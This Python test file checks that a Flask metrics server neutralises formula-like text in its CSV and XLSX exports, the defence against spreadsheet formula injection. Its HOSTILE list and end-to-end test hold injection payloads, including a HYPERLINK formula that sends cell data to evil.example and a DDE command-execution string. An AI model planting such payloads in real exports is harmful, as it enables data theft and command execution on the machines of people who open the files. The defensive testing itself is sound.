"""Exports never hand a spreadsheet a formula: text that looks like one is neutralised (OWASP)."""

from __future__ import annotations

import csv
import io

import pytest
from flask import Flask
from openpyxl import load_workbook

from server.metrics import export
from server.models import Department, Region
from tests import factories
from tests.metrics.support import World, session
from tests.metrics.test_worked_examples import build_example

BASE = "/api/v1/metrics"


@pytest.fixture
def example(sapp: Flask, world: World) -> dict[str, int]:
    return build_example(sapp, world)


Q = "from=2026-11-01&to=2026-11-30&as_of=2026-11-20T12:00:00%2B08:00"

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+2",
    "\r=1+2",
    "＝1+2",  # full-width: WPS reads these as formulas too
    "＋1",
    "－1",
    "＠SUM(1)",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_neutralise_quotes_formula_like_text(text: str) -> None:
    assert export.neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["城区街道", "A-1", "网格=1", "", 0, -3, -2.5, None, 1e9])
def test_neutralise_leaves_plain_text_and_numbers(value: object) -> None:
    assert export.neutralise(value) == value


def _table() -> export.Table:
    return export.Table(
        title="指标",
        header=["名称", "编码", "上报数", "结案率", "时长"],
        kinds=["text", "text", "count", "rate", "hours"],
        rows=[[t, "=1+1", -1, -0.5, -2.25] for t in HOSTILE],
        about=[("统计范围", "=cmd|' /C calc'!A0（region）")],
    )


def test_xlsx_has_no_formula_cell_and_numbers_stay_numbers() -> None:
    wb = load_workbook(io.BytesIO(export.to_xlsx(_table())))
    ws = wb["指标"]
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert cells and all(c.data_type != "f" for c in cells)
    # XML stores a carriage return as a line feed; the quote in front is what matters.
    texts = {c.value.replace("\n", "\r") for c in cells if isinstance(c.value, str)}
    for t in HOSTILE:
        assert "'" + t in texts
    assert "'=cmd|' /C calc'!A0（region）" in texts
    quoted = {"'" + t for t in HOSTILE}
    numbers = [
        r[2:] for r in ws.iter_rows(values_only=True) if str(r[0]).replace("\n", "\r") in quoted
    ]
    assert numbers and all(n == (-1, -0.5, -2.25) for n in numbers)


def test_csv_quotes_formula_like_text_but_not_numbers() -> None:
    rows = list(csv.reader(io.StringIO(export.to_csv(_table()).decode("utf-8-sig"), newline="")))
    body = rows[1:]
    assert [r[0] for r in body] == ["'" + t for t in HOSTILE]
    assert all(r[1] == "'=1+1" for r in body)
    assert all(r[2:] == ["-1", "-50.00", "-2.25"] for r in body)


def test_exports_of_hostile_region_and_department_names(
    sapp: Flask, world: World, example: dict[str, int]
) -> None:
    """End to end: names typed by an admin or read from a plan reach the files quoted."""
    with session(sapp) as db:
        town = db.get(Region, world.towns[0].id)
        dep = db.get(Department, world.departments["CG"].id)
        assert town is not None and dep is not None
        town.name = '=HYPERLINK("http://evil.example","x")'
        dep.name = "＠SUM(1)"
        db.commit()
    client = sapp.test_client()
    factories.login(client, "supervisor")
    resp = client.get(f"{BASE}/export.xlsx?{Q}&by=town")
    assert resp.status_code == 200
    ws = load_workbook(io.BytesIO(resp.data))["指标"]
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert all(c.data_type != "f" for c in cells)
    assert '\'=HYPERLINK("http://evil.example","x")' in {c.value for c in cells}
    resp = client.get(f"{BASE}/export.csv?{Q}&by=town")
    rows = list(csv.reader(io.StringIO(resp.data.decode("utf-8-sig"), newline="")))
    assert rows[1][0] == '\'=HYPERLINK("http://evil.example","x")'
    resp = client.get(f"{BASE}/export.csv?{Q}&report=department")
    rows = list(csv.reader(io.StringIO(resp.data.decode("utf-8-sig"), newline="")))
    assert any(r[1] == "'＠SUM(1)" for r in rows[1:])
